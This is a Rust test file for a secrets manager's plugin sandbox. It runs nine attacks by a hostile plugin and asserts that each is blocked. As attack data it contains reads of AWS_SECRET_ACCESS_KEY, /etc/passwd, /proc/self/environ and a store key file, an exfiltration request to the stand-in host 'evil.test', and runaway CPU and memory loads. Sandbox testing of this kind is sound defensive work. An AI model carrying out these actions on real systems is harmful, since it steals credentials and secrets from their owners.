//! The nine attacks that all succeed against the best unsandboxed peer, in its order. What happens
//! there and here is told in `docs/security.md`.

use std::time::Duration;

use serde_json::json;
use strongroom::Kind;

use crate::backend::{Backend, ok};
use crate::canary::{Canary, hex};
use crate::code::{Home, add, refused_component};
use crate::world::{Plan, get, is, script, told, under_both, within};

/// A plugin written as for an ordinary program.
pub const GREEDY: &str = r#"
name = "hostile-greedy"
version = "0.1.0"
schemes = ["greedy"]
wants = ["wasi-stub"]

[reference]
path = ["what", "more*"]
"#;

const MOUNT: &str = "[mounts.greedy]\nplugin = $GREEDY\n";

#[test]
fn one_it_reads_the_environment() {
    under_both(async |allocation| {
        let (own, other) = (Canary::new(), Canary::new());
        let world = Plan::new(allocation)
            .guest("greedy", GREEDY)
            .config(MOUNT)
            .variable("HOSTILE_a", &own)
            .variable("AWS_SECRET_ACCESS_KEY", &other)
            .open();
        let whole = world.resolve("greedy://environment/all").await.unwrap();
        assert_eq!(whole.expose_text(), Some("[] [] None"), "the environment of a sandbox is empty");
        let asks = script(json!({ "names": true })).then(json!({ "env": "AWS_SECRET_ACCESS_KEY" }));
        let report = world.report("a", &asks).await;
        assert_eq!((&report[0]["names"], &report[1]["error"]), (&json!(["HOSTILE_a"]), &json!("absent")));
        world.end().await;
    });
}

#[test]
fn two_it_reads_the_key_file() {
    under_both(async |allocation| {
        let world = Plan::new(allocation).guest("greedy", GREEDY).config(MOUNT).mount("write = true\n").open();
        let keep = script(json!({ "store": { "op": "set", "key": "a/k", "value": "x" } }));
        world.put("a", &keep, "").await.unwrap();
        for path in ["etc/passwd", "proc/self/environ", "root/.local/state/strongroom/store.key"] {
            let read = world.resolve(&format!("greedy://read/{path}")).await.unwrap();
            assert_eq!(read.expose_text(), Some("false false"), "no folder is open, and no file: {path}");
        }
        world.end().await;
    });
}

#[test]
fn three_it_writes_outside_the_repository() {
    under_both(async |allocation| {
        let world = Plan::new(allocation).guest("greedy", GREEDY).config(MOUNT).open();
        let target = world.folder.path().join("planted");
        let written = world.resolve(&format!("greedy://write{}", target.display())).await.unwrap();
        assert_eq!(written.expose_text(), Some("false false"));
        assert!(!target.exists());
        let printed = world.resolve("greedy://print/it").await.unwrap();
        assert_eq!(printed.expose_text(), Some("false"), "not even to standard output");
        world.end().await;
    });
}

#[test]
fn four_it_runs_commands() {
    // What would run one must be imported, and what is imported must have been granted: the plugin is
    // never loaded. There is no interface that takes a command's text at all.
    for (import, wants, code) in [
        ("strongroom:plugin/store@0.1.0", "", "plugin.import-not-granted"),
        ("strongroom:plugin/tool@0.1.0", "", "plugin.import-not-granted"),
        ("wasi:cli/run@0.2.12", "", "plugin.import-unknown"),
        ("wasi:sockets/tcp-create-socket@0.2.12", "", "plugin.import-unknown"),
        ("acme:system/process@1.0.0", "", "plugin.import-unknown"),
    ] {
        refused_component(import, wants, code);
    }
}

#[test]
fn five_it_sends_to_a_foreign_host() {
    under_both(async |allocation| {
        let evil = Backend::plain(|_| ok("thanks")).await;
        let own = Canary::new();
        let world = Plan::new(allocation).variable("HOSTILE_a", &own).open();
        let sends = get(&format!("http://evil.test:{}", evil.port), "/open/a");
        let failure = world.failure("a", &script(json!({ "env": "HOSTILE_a" })).then(sends).or_fail()).await;
        is(&failure, Kind::PolicyDenied, "egress.refused");
        assert_eq!((evil.accepted(), world.names.asked().len()), (0, 0));
        world.end().await;
    });
}

#[test]
fn six_it_reads_the_siblings_secret() {
    under_both(async |allocation| {
        let (sibling, token) = (Canary::new(), Canary::new());
        let mount = "[mounts.sibling]\nplugin = $HOSTILE\nscheme = \"sibling\"\nwrite = true\n";
        let world = Plan::new(allocation).config(mount).token(&token).variable("HOSTILE_b", &sibling).open();
        let keep = script(json!({ "store": { "op": "set", "key": "a/k", "value": "$plain" } })).at("a");
        let keep = world.strongroom.parse(&keep.replace("hostile://", "sibling://")).unwrap();
        world.strongroom.set(&keep, &strongroom::Value::text(sibling.text()), &[], None).await.unwrap();
        world
            .resolve(&script(json!({ "env": "HOSTILE_b" })).at("b").replace("hostile://", "sibling://"))
            .await
            .unwrap();
        let steals = script(json!({ "store": { "op": "get", "key": "a/k" } }))
            .then(json!({ "env": "HOSTILE_b" }))
            .then(json!({ "env": "TOKEN" }))
            .then(json!({ "scan": hex(sibling.text().as_bytes()) }));
        let report = world.report("a", &steals).await;
        assert_eq!(report[0], json!({ "value": null }));
        assert_eq!((&report[1]["error"], &report[2]["error"]), (&json!("absent"), &json!("absent")));
        assert_eq!(report[3]["found"], 0);
        world.end().await;
    });
}

#[test]
fn seven_it_loops_for_ever() {
    under_both(async |allocation| {
        let world = Plan::new(allocation).open();
        let failure = within(Duration::from_secs(5), world.failure("a", &script(json!({ "spin": true })))).await;
        is(&failure, Kind::LimitExceeded, "limit.cpu");
        world.end().await;
    });
}

#[test]
fn eight_it_takes_three_gigabytes() {
    under_both(async |allocation| {
        let world = Plan::new(allocation).open();
        let report = world.report("a", &script(json!({ "grow": "live with it" }))).await;
        assert!(report[0]["mebibytes"].as_u64() < Some(32), "{report:?}");
        is(&world.failure("a", &script(json!({ "grow": "insist" }))).await, Kind::LimitExceeded, "limit.memory");
        world.end().await;
    });
}

#[test]
fn nine_it_leaves_with_success() {
    under_both(async |allocation| {
        let world = Plan::new(allocation).guest("greedy", GREEDY).config(MOUNT).open();
        let failure = world.resolve("greedy://exit/now").await.unwrap_err();
        is(&failure, Kind::Trapped, "plugin.exit");
        assert!(told(&failure).contains("hostile-greedy@"));
        world.end().await;
    });
    // To whoever called `run` it is a failure, and the program was not started.
    let home = Home::new();
    add(&home, "greedy", GREEDY);
    let done = home.strongroom(["run", "-e", "A=greedy://exit/now", "--", "sh", "-c", "echo started"]).done();
    done.fails(111, "plugin.exit").prints("");
}
